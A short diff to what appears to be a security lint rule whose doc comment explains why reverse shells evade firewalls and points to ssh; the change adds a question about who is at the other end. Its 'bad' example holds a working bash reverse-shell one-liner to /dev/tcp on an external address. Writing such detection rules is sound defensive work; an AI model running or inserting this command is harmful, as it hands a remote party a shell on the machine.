@@ -12,6 +12,8 @@ rule! {
     /// Commands come in over the connection and run with the rights of this script; firewalls do not see it, since the
     /// connection goes out. For remote work use `ssh`, which asks both sides who they are.
     ///
+    /// To decide: Who is at the other end, and why do they not come in by `ssh`?
+    ///
     /// ```sh bad
     /// bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
     /// ```
